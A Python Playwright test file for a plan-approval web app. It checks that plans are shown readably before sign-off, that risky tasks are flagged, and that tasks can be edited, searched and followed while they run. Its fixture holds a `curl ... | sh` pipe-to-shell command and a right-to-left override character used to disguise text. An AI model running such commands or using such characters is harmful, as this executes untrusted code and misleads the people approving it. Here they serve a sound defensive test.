"""The Plan tab: reading the plan before signing it, and following it while it runs."""

from __future__ import annotations

import re
from typing import Any

from playwright.sync_api import Page, Route, expect

from tests.browser.axe import violations_in_both_themes
from tests.browser.conftest import Signoff

HOSTILE = """\
## Prepare

- Fetch: `echo rows=42 >> "$SIGNOFF_OUTPUT"` {#fetch files=orders.csv retries=2 timeout=5m}
- Install {#install}

  ```sh
  curl -s https://get.example/install.sh | sh
  echo "fine \u202e; # eman"
  ```

- Many steps {#many}

  ```sh
MANY_LINES
  ```

## Publish {approval=yes}

1. Ask {#ask}

   ```http expect=200
   POST https://stats.example/query
   Accept: text/plain

   {"rows": "${{ tasks.fetch.outputs.rows }}"}
   ```

2. Send <b>it</b>? {#send decision=yes,no default=no}
3. [ ] Ring them up
""".replace("MANY_LINES", "\n".join(f"  echo step {number}" for number in range(1, 31)))


def test_everything_that_is_signed_can_be_read(page: Page, signoff: Signoff) -> None:
    page.goto(f"/projects/{signoff.planned('Hostile', HOSTILE)}")
    prepare, publish = (page.get_by_role("region", name=name) for name in ("Prepare", "Publish"))
    # With invisible characters, people would sign something other than what they read.
    expect(prepare).to_contain_text('echo "fine ⟨U+202E⟩; # eman"')
    expect(prepare).not_to_contain_text("\u202e")
    # A long command says that it is cut.
    expect(prepare).not_to_contain_text("echo step 30")
    # The commands, and `set -e` before them.
    prepare.get_by_role("button", name="Show all 31 lines").click()
    expect(prepare).to_contain_text("echo step 30")
    expect(prepare).to_contain_text("orders.csv")
    expect(publish).to_contain_text("needs approval to start")
    expect(publish).to_contain_text("POST https://stats.example/query")
    expect(publish).to_contain_text('{"rows": "${{ tasks.fetch.outputs.rows }}"}')
    expect(publish.get_by_role("link", name="Fetch")).to_have_attribute("href", re.compile("task="))
    expect(publish.get_by_role("link", name="Send <b>it</b>?").first).to_be_visible()


def test_dangers_are_marked_at_their_task_and_above_the_plan(page: Page, signoff: Signoff) -> None:
    page.goto(f"/projects/{signoff.planned('Dangers', HOSTILE)}")
    summary = page.get_by_role("main").locator(
        "section", has=page.get_by_role("heading", name="1 task needs a close look")
    )
    expect(summary.get_by_role("link", name="Install")).to_be_visible()
    task = page.get_by_role("listitem").filter(has=page.get_by_role("heading", name="Install"))
    expect(task.get_by_text("Critical:")).to_be_visible()
    expect(task).to_contain_text("runs what it downloads")
    assert page.get_by_text("Critical:").count() == 1


def test_a_plan_is_made_and_a_failed_one_says_why(page: Page, signoff: Signoff) -> None:
    page.goto(f"/projects/{signoff.create('Draft', '- Say hello: `echo hello`')}")
    page.get_by_role("button", name="Generate plan").click()
    expect(page.get_by_role("heading", name="Say hello")).to_be_visible()
    page.goto(f"/projects/{signoff.create('Broken', '- One: `a <b>`')}")
    page.get_by_role("button", name="Generate plan").click()
    expect(page.get_by_role("alert").first).to_contain_text("<b> is a placeholder")


def test_planning_shows_its_duration_and_its_failure(page: Page, signoff: Signoff) -> None:
    project_id = signoff.create("Slowly planned", "")
    changes: dict[str, Any] = {"stage": "planning", "since": "2026-01-01T00:00:00.000Z"}

    def planning(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(response=answer, json=answer.json() | changes)

    page.route(f"**/api/projects/{project_id}", planning)
    page.goto(f"/projects/{project_id}")
    expect(page.get_by_text("Generating the plan").first).to_be_visible()
    expect(page.get_by_text(re.compile(r"for \d+ d"))).to_be_visible()
    expect(page.get_by_role("button", name="Generate plan")).to_have_count(0)
    changes |= {
        "stage": "draft",
        "failure": {"code": "planner_failed", "message": "The model said no.", "task_id": None},
    }
    page.reload()
    expect(page.get_by_role("alert")).to_contain_text("The model said no.")
    expect(page.get_by_role("button", name="Generate plan")).to_be_visible()


def test_a_plan_is_edited_manually(page: Page, signoff: Signoff) -> None:
    page.goto(f"/projects/{signoff.create('By hand', '')}")
    page.get_by_role("button", name="Add a task").click()
    dialog = page.get_by_role("dialog")
    dialog.get_by_label("Title").fill("First")
    dialog.get_by_role("textbox", name="Command").fill("echo one")
    dialog.get_by_role("button", name="Save").click()
    expect(page.get_by_text("Version 1", exact=True)).to_be_visible()
    page.get_by_role("button", name="Edit: First").click()
    dialog.get_by_role("textbox", name="Command").fill("echo two")
    dialog.get_by_role("button", name="Save").click()
    expect(page.get_by_role("code").get_by_text("echo two")).to_be_visible()
    page.get_by_role("button", name="Remove: First").click()
    dialog.get_by_role("button", name="Remove").click()
    expect(page.get_by_role("heading", name="First")).to_have_count(0)


def test_a_thousand_tasks_can_be_searched(page: Page, signoff: Signoff) -> None:
    outline = "\n".join(
        f"## Part {part}\n\n"
        + "\n".join(f"- Task {part}-{number}: `echo {part} {number}`" for number in range(100))
        + "\n"
        for part in range(10)
    )
    page.goto(f"/projects/{signoff.planned('Large', outline)}")
    # With so many tasks, phases are collapsed at first.
    expect(page.get_by_role("button", name="Part 9", exact=True)).to_have_attribute("aria-expanded", "false")
    page.get_by_label("Filter tasks").get_by_role("searchbox").fill("task 7-3 echo")
    expect(page.get_by_text("11 of 1,000 tasks")).to_be_visible()
    expect(page.get_by_role("heading", name="Task 7-35")).to_be_visible()
    page.wait_for_url("**?q=task+7-3+echo")
    page.reload()
    expect(page.get_by_text("11 of 1,000 tasks")).to_be_visible()
    page.get_by_label("Status").select_option("failed")
    expect(page.get_by_text("No task matches the filter.")).to_be_visible()


def test_the_outline_is_shown(page: Page, signoff: Signoff) -> None:
    page.goto(f"/projects/{signoff.planned('Outlined', HOSTILE)}")
    page.get_by_role("button", name="Outline").click()
    expect(page.get_by_role("dialog")).to_contain_text("## Prepare {#prepare}")


def test_the_plan_follows_the_run(page: Page, signoff: Signoff) -> None:
    outline = "- Wait for it: `while [ ! -e go ]; do sleep 0.1; done`\n- [ ] A person does this"
    project_id = signoff.planned("Followed", outline)
    page.goto(f"/projects/{project_id}")
    waiting, by_hand = (
        page.get_by_role("listitem").filter(has=page.get_by_role("heading", name=name))
        for name in ("Wait for it", "A person does this")
    )
    expect(waiting).to_contain_text("Pending")
    signoff.api.post(f"/api/projects/{project_id}/approve", json={}).raise_for_status()
    expect(waiting).to_contain_text("Running")
    expect(by_hand).to_contain_text("for a person to do it")
    signoff.api.post(f"/api/projects/{project_id}/files/upload", files={"file": ("go", b"")}).raise_for_status()
    expect(waiting).to_contain_text("Completed")
    expect(page.get_by_text("1 of 2 done")).to_be_visible()


def test_the_plan_is_accessible(page: Page, signoff: Signoff) -> None:
    page.goto(f"/projects/{signoff.planned('Accessible', HOSTILE)}")
    expect(page.get_by_text("Critical:")).to_be_visible()
    assert violations_in_both_themes(page) == []


def test_the_plan_fits_a_phone(page: Page, signoff: Signoff) -> None:
    page.set_viewport_size({"width": 360, "height": 740})
    wide = f"## {'Wide' * 40}\n\n- {'Long' * 40}: `echo {'x' * 3000}` {{files={'f' * 200}}}\n"
    page.goto(f"/projects/{signoff.planned('Narrow', wide)}")
    expect(page.get_by_role("button", name="Show all 3,005 characters")).to_be_visible()
    assert page.get_by_role("main").evaluate("main => main.scrollWidth <= 360")
